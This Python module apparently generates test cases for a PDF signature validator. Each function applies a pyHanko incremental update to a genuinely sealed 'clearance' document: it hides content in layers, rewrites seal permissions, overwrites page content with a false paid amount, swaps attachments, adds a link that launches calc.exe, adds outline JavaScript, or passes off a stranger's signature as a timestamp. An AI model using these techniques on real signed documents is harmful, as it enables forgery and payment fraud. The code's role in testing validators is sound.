"""Revisions appended to a genuine clearance whose lie stands at an unusual place.

Some come with validation evidence beside them, which may lawfully follow a seal.
"""

from collections.abc import Callable, Iterator

from attacks.material import Material, dictionary, first_page, text_stream, updated
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Writer = IncrementalPdfFileWriter

_OTHER_DATA = b'{"premium":{"amount_collected":1}}'


def form_of_another_kind(m: Material) -> bytes:
    """An XFA form, which some readers show instead of the pages, beside further evidence."""

    def change(writer: Writer) -> None:
        form = writer.root["/AcroForm"]
        template = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"
        form["/XFA"] = writer.add_object(generic.StreamObject(stream_data=template))
        writer.update_container(form)

    return updated(m.genuine, _with_evidence(change))


def appearances_demanded(m: Material) -> bytes:
    """Readers are told to draw the fields themselves, so that the seal may look otherwise."""

    def change(writer: Writer) -> None:
        form = writer.root["/AcroForm"]
        form["/NeedAppearances"] = generic.BooleanObject(True)
        writer.update_container(form)

    return updated(m.genuine, change)


def content_made_optional(m: Material) -> bytes:
    """Shadow, hide: what the page prints becomes a layer that is switched off."""

    def change(writer: Writer) -> None:
        layer = writer.add_object(dictionary(Type="/OCG", Name="amount"))
        off = dictionary(OFF=generic.ArrayObject([layer]))
        writer.root["/OCProperties"] = dictionary(OCGs=generic.ArrayObject([layer]), D=off)
        writer.update_root()
        drawn = first_page(writer)["/Resources"]["/XObject"]
        reference = drawn.raw_get(next(iter(drawn)))
        form = reference.get_object()
        form["/OC"] = layer
        writer.objects[reference.generation, reference.idnum] = form

    return updated(m.genuine, change)


def permission_lied(m: Material) -> bytes:
    """The seal's own dictionary is written anew and permits annotations."""

    def change(writer: Writer) -> None:
        reference = writer.root["/Perms"].raw_get("/DocMDP")
        sealed = reference.get_object()
        sealed["/Reference"][0]["/TransformParams"]["/P"] = generic.NumberObject(3)
        writer.objects[reference.generation, reference.idnum] = sealed

    return updated(m.genuine, change)


def page_tree_turned(m: Material) -> bytes:
    """What the page inherits turns it upside down, beside further evidence."""

    def change(writer: Writer) -> None:
        tree = writer.root["/Pages"]
        tree["/Rotate"] = generic.NumberObject(180)
        writer.update_container(tree)

    return updated(m.genuine, _with_evidence(change))


def page_shown_twice(m: Material) -> bytes:
    """The page tree shows the one page twice."""

    def change(writer: Writer) -> None:
        tree = writer.root["/Pages"]
        tree["/Kids"].append(tree["/Kids"].raw_get(0))
        tree["/Count"] = generic.NumberObject(2)
        writer.update_container(tree["/Kids"])
        writer.update_container(tree)

    return updated(m.genuine, change)


def read_aloud_otherwise(m: Material) -> bytes:
    """What is read to the blind says another amount, beside further evidence."""

    def change(writer: Writer) -> None:
        top = writer.root["/StructTreeRoot"]["/K"]
        top = top[0] if isinstance(top, generic.ArrayObject) else top
        top["/ActualText"] = generic.TextStringObject("9,999 rials")
        writer.update_container(top)

    return updated(m.genuine, _with_evidence(change))


def two_attachments_of_one_name(m: Material) -> bytes:
    """Another attachment of the same name stands before the genuine one."""

    def change(writer: Writer) -> None:
        tree = writer.root["/Names"]["/EmbeddedFiles"]
        genuine = [tree["/Names"].raw_get(index) for index in range(len(tree["/Names"]))]
        tree["/Names"] = generic.ArrayObject([*_other_attachment(writer), *genuine])
        writer.update_container(tree)

    return updated(m.genuine, change)


def attachment_tree_exchanged(m: Material) -> bytes:
    """The attachments are a tree of another shape, with other data in it."""

    def change(writer: Writer) -> None:
        names = generic.ArrayObject(_other_attachment(writer))
        leaf = writer.add_object(dictionary(Names=names))
        tree = dictionary(Kids=generic.ArrayObject([leaf]))
        writer.root["/Names"]["/EmbeddedFiles"] = writer.add_object(tree)
        writer.update_container(writer.root["/Names"])

    return updated(m.genuine, change)


def associated_file_exchanged(m: Material) -> bytes:
    """The document's associated file is another one than the attachment of the same name."""

    def change(writer: Writer) -> None:
        _, specification = _other_attachment(writer)
        writer.root["/AF"] = generic.ArrayObject([specification])
        writer.update_root()

    return updated(m.genuine, change)


def program_behind_a_link(m: Material) -> bytes:
    """A link opens an address, and then starts a program."""

    def change(writer: Writer) -> None:
        then = dictionary(S="/Launch", F="calc.exe")
        action = dictionary(S="/URI", URI="https://example.org/", Next=then)
        corners = generic.ArrayObject(map(generic.NumberObject, (72, 300, 400, 420)))
        link = dictionary(Type="/Annot", Subtype="/Link", Rect=corners, A=action)
        page = first_page(writer)
        page["/Annots"].append(writer.add_object(link))
        writer.update_container(page["/Annots"])

    return updated(m.genuine, change)


def script_in_the_outline(m: Material) -> bytes:
    """A script runs when a heading of the outline is chosen."""

    def change(writer: Writer) -> None:
        heading = writer.root["/Outlines"]["/First"]
        heading["/A"] = dictionary(S="/JavaScript", JS="app.alert('paid')")
        writer.update_container(heading)

    return updated(m.genuine, change)


def seal_drawn_otherwise(m: Material) -> bytes:
    """The seal's field shows another picture."""

    def change(writer: Writer) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0]
        box = generic.ArrayObject(map(generic.NumberObject, (0, 0, 120, 120)))
        form = dictionary(Type="/XObject", Subtype="/Form", BBox=box)
        drawn = generic.StreamObject(form, stream_data=b"1 0 0 rg 0 0 120 120 re f")
        field["/AP"]["/N"] = writer.add_object(drawn)
        writer.update_container(field["/AP"])

    return updated(m.genuine, change)


def seal_moved(m: Material) -> bytes:
    """The seal's field is spread over the whole page."""

    def change(writer: Writer) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0]
        field["/Rect"] = generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842)))
        writer.update_container(field)

    return updated(m.genuine, change)


def seal_copied(m: Material) -> bytes:
    """The field points to a copy of the seal's dictionary."""

    def change(writer: Writer) -> None:
        field = writer.root["/AcroForm"]["/Fields"][0]
        field["/V"] = writer.add_object(field["/V"])
        writer.update_container(field)

    return updated(m.genuine, change)


def signature_posing_as_evidence(m: Material) -> bytes:
    """A stranger's signature says that it is a document timestamp."""

    def change(writer: Writer) -> None:
        field = writer.root["/AcroForm"]["/Fields"][-1].get_object()
        signature = field["/V"]
        signature["/Type"] = generic.NameObject("/DocTimeStamp")
        reference = field.raw_get("/V")
        writer.objects[reference.generation, reference.idnum] = signature

    return updated(m.stranger(m.genuine), change)


def page_overwritten_beside_evidence(m: Material) -> bytes:
    """Other content under the number of the page's content, beside further evidence."""

    def change(writer: Writer) -> None:
        content = first_page(writer).raw_get("/Contents")
        writer.objects[content.generation, content.idnum] = text_stream("Paid: 9999 rials")

    return updated(m.genuine, _with_evidence(change))


def _other_attachment(writer: Writer) -> Iterator[generic.PdfObject]:
    """Yield an entry of the tree of attachments: name, and specification of the file."""
    stream = generic.StreamObject(dictionary(Type="/EmbeddedFile"), stream_data=_OTHER_DATA)
    name = "clearance.json"
    files = dictionary(F=writer.add_object(stream))
    yield generic.TextStringObject(name)
    yield writer.add_object(dictionary(Type="/Filespec", F=name, UF=name, EF=files))


def _with_evidence(change: Callable[[Writer], None]) -> Callable[[Writer], None]:
    """Put a certificate into the evidence too, one that is there already."""

    def both(writer: Writer) -> None:
        change(writer)
        store = writer.root["/DSS"]
        again = generic.StreamObject(stream_data=store["/Certs"][0].data)
        store["/Certs"].append(writer.add_object(again))
        writer.update_container(store["/Certs"])
        writer.update_container(store)

    return both
